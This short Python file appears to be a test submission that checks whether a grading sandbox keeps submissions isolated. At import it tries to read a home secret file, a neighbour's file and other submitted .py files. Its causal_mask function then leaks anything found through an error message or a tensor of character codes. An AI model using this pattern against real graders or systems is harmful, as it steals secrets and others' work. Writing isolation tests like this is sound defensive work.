"""Send a secret out as the numbers of a returned tensor, to read it in the feedback. There must be no secret to send."""

import glob

import torch

secret = "nothing"
for place in ["@HOME@/secret.txt", "@NEIGHBOUR@", *glob.glob("@SUBMITTED@/*/*/*.py")]:
    try:
        secret = open(place).read()
        break
    except OSError:
        pass


def causal_mask(q_len, k_len=None):
    if secret != "nothing":
        raise ValueError(secret)
    return torch.tensor([ord(c) for c in secret])
